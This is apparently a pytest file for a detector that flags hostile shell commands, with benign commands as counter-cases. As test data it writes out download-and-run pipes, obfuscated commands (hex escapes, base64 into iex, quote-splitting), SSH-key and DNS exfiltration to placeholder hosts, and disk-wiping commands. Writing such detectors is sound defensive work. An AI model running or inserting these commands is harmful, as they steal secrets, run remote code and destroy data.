from __future__ import annotations

import time

import pytest

from assay.release.formats.code_shell import commands, script
from assay.release.formats.code_shell_tricks import Fetched, unquoted
from tests.unit.release.formats.test_code_actions import read


def names(text: str) -> set[str]:
    return {act.name for act in script(text)}


@pytest.mark.parametrize(
    ("text", "name"),
    [
        ("source <(curl -s http://a)", "download-and-run"),
        (". <(wget -qO- http://a)", "download-and-run"),
        ("curl http://a | xargs -I{} sh -c '{}'", "download-and-run"),
        ("python3 -c 'import urllib; exec(urlopen(1))'", "download-and-run"),
        ("iwr http://a -o x.exe; start x.exe", "download-and-run"),
        ("curl -o x.exe http://a && x.exe", "download-and-run"),
        ("[Reflection.Assembly]::Load($x)", "download-and-run"),
        (r"$'\x63\x75\x72\x6c' http://a", "decode-and-run"),
        ("[Convert]::FromBase64String('x') | iex", "decode-and-run"),
        ("scp ~/.ssh/id_rsa a@b:", "sends-secrets"),
        ("nslookup $(whoami).a.invalid", "sends-secrets"),
        ("find / -type f -delete", "destroys-files"),
        ("dd if=/dev/zero of=/dev/sda", "destroys-files"),
        ("c''url -s http://a | s\\h", "decode-and-run"),
        ('wg""et${IFS}http://a|sh', "decode-and-run"),
        ("conda install -c https://a.invalid/x y", "other-index"),
        ("curl -s http://a -o /opt/x\nchmod +x /opt/x\n/opt/x\n", "download-and-run"),
        ("wget http://a/x.sh?y=1\nbash x.sh\n", "download-and-run"),
        ("RUN wget http://a/x.sh\nRUN sudo sh -e ./x.sh\n", "download-and-run"),
    ],
)
def test_a_command_that_hides_is_seen(text, name):
    assert name in names(text)


@pytest.mark.parametrize(
    "text",
    [
        "apt-get install -y curl git && rm -rf /var/lib/apt/lists/*",
        "python -c 'import torch; print(torch.__version__)'",
        "wget https://repo.anaconda.com/miniconda/M.sh\nbash M.sh\n",
        "curl -L http://a -o /usr/local/bin/x\nchmod +x /usr/local/bin/x\n",
        "scp -i ~/.ssh/id_rsa a b:",
        "ping -c1 $(hostname)",
        r"echo -e $'\x1b[0m'",
        "dd if=/dev/zero of=/dev/null",
        "find . -name '*.pyc' -delete",
        "echo \"\" 'it''s'",
        "conda install -c conda-forge x",
    ],
)
def test_an_honest_command_is_none_of_them(text):
    hostile = {"download-and-run", "decode-and-run", "sends-secrets", "destroys-files"}
    assert not names(text) & {*hostile, "other-index"}


def test_a_plain_command_has_nothing_to_be_taken_out():
    assert unquoted("curl http://a") == ""
    assert unquoted("c''url") == "curl"


def test_only_so_many_fetched_files_are_remembered():
    fetched = Fetched()
    for number in range(100):
        fetched.runs(f"curl http://a/x{number}.sh")
    assert fetched.runs("sh x0.sh") == "http://a/x0.sh"
    assert fetched.runs("sh x99.sh") == ""


@pytest.mark.parametrize(
    "text", ["curl ", "python -c ", "c''u", "find / ", "sh -x ", "scp -a ", "$'x"]
)
def test_no_line_takes_long(text):
    begun = time.process_time()
    for _ in commands(text * 1_000, 1, "call"):
        pass
    assert time.process_time() - begun < 2


def test_an_image_may_prepare_the_shell_that_it_has():
    text = "FROM x\nRUN echo 'source /etc/profile' >> ~/.bashrc\n"
    assert read(text, path="Dockerfile").actions == ()
    assert read(text, path="a.sh").actions
